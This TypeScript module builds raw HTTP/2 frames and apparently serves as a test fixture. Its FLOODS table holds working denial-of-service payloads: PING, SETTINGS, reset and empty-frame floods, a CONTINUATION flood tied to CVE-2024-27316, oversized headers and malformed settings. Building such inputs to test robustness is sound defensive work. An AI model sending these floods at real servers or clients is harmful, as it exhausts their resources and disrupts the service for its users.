/** Frames of HTTP/2 as bytes (RFC 9113 4.1, 6), right and wrong ones: what no server library would send. */

const DATA = 0x0
const HEADERS = 0x1
const RST_STREAM = 0x3
const SETTINGS = 0x4
const PING = 0x6
const GOAWAY = 0x7
const WINDOW_UPDATE = 0x8
const CONTINUATION = 0x9
/** A type that nobody knows and everybody has to ignore (RFC 9113 5.5). */
const UNKNOWN = 0x42

/** @param stream 0: of the connection. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** GOAWAY without an error: streams above `last` were not touched. */
export function goaway(last: number): Buffer {
  const payload = Buffer.alloc(8)
  payload.writeUInt32BE(last, 0)
  return frame(GOAWAY, 0, 0, payload)
}

/** RST_STREAM. */
export function reset(stream: number, code: number): Buffer {
  return frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, code]))
}

/** A setting with the number and value. */
function setting(id: number, value: number): Buffer {
  const bytes = Buffer.alloc(6)
  bytes.writeUInt16BE(id, 0)
  bytes.writeUInt32BE(value, 2)
  return bytes
}

/** A header field as a literal that is not indexed (RFC 7541 6.2.2), name and value under 127 bytes. */
function field(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name, 'latin1'),
    Buffer.from([value.length]),
    Buffer.from(value, 'latin1'),
  ])
}

/** What a flood consists of, by name: bytes that come once, and bytes that come again and again. */
export const FLOODS: Readonly<Record<string, (stream: number) => { first?: Buffer; again?: Buffer }>> = {
  ping: () => ({ again: frame(PING, 0, 0, Buffer.from('sluicing')) }),
  settings: () => ({ again: frame(SETTINGS, 0, 0, setting(0x3, 100)) }),
  window: () => ({ again: frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])) }),
  unknown: () => ({ again: frame(UNKNOWN, 0, 0, Buffer.alloc(1000)) }),
  /** On a stream that is over: nobody may mind, and nobody has to keep it. */
  reset: (stream) => ({ first: reset(stream, 8), again: reset(stream, 8) }),
  'empty-data': (stream) => ({
    first: frame(HEADERS, 0x4, stream, Buffer.from([0x88])),
    again: frame(DATA, 0, stream),
  }),
  /** CVE-2024-27316 and its family: a head that never ends. */
  continuation: (stream) => ({
    first: frame(HEADERS, 0, stream, Buffer.from([0x88])),
    again: frame(CONTINUATION, 0, stream, field('x-more', 'm'.repeat(100))),
  }),
  'empty-continuation': (stream) => ({
    first: frame(HEADERS, 0, stream, Buffer.from([0x88])),
    again: frame(CONTINUATION, 0, stream),
  }),
  /** A whole head of 96 kB, in few frames. */
  'large-head': (stream) => {
    const fields = Buffer.concat(Array.from({ length: 148 }, () => field('x-large', 'l'.repeat(100))))
    const more = Array.from({ length: 5 }, (_, n) => frame(CONTINUATION, n === 4 ? 0x4 : 0, stream, fields))
    return { first: Buffer.concat([frame(HEADERS, 0x1, stream, Buffer.from([0x88])), ...more]) }
  },
  /** One frame with thousands of settings. */
  'huge-settings': () => ({
    first: frame(SETTINGS, 0, 0, Buffer.concat(Array.from({ length: 2_700 }, (_, n) => setting(0x100 + n, n)))),
  }),
  /** A window beyond 2^31 - 1 (RFC 9113 6.5.2). */
  'bad-setting': () => ({ first: frame(SETTINGS, 0, 0, setting(0x4, 0xffff_ffff)) }),
  garbage: () => ({ again: Buffer.from('HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n') }),
}
